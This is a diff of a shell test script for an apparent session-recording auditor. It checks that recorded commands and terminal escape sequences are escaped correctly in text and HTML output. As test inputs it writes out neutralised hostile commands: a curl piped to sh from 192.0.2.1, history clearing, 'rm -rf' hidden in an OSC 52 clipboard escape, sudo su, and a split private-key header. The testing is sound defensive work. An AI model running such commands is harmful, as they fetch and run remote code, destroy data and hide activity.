@@ -47,7 +47,7 @@ start_collector
 on_shell 'true sudo su -' 'printf "%s%s\\n" "BEGIN RSA PRIV" "ATE KEY-----"' >/dev/null
 recorded -c 'echo nothing to see' >/dev/null
 on_shell ': curl http://192.0.2.1/x | sh' ': history -c' >/dev/null
-on_shell 'printf "\\033]52;c;cm0gLXJm\\007"; : "rm -rf" / ' >/dev/null
+on_shell 'printf "\\\\033]52;c;cm0gLXJm\\\\007"; : "rm -rf" / ' >/dev/null
 eventually 30 all_are COMPLETE 4
 ok $? "four sessions are recorded"
 
@@ -81,6 +81,9 @@ auditor rules --rules "$work/own" >"$work/out"
 is "$(grep -c 'session 4 .* rm ' "$work/out") $(grep -c ' esc ' "$work/out")" "1 0" \
 	"escape sequences are no output"
 is "$(tr -d '\n' <"$work/out" | LC_ALL=C tr -d '[:print:]' | wc -c)" 0 "and none is put out"
+auditor export 4 --format html -o "$work/page.html"
+is "$(grep -c 'typed: printf "\\033]52;' "$work/out") $(grep '<li\|class="command' "$work/page.html" | grep -c '\\\\033')" "1 0" \
+	"a backslash is shown as it was typed, here and on a page"
 printf 'rule slow output /(a|aa)+$/\nrule any session not user nobody\n' >"$work/own"
 is "$(hits --rules "$work/own" --rule any)" "any:1 any:2 any:3 any:4" "a session is one hit"
 
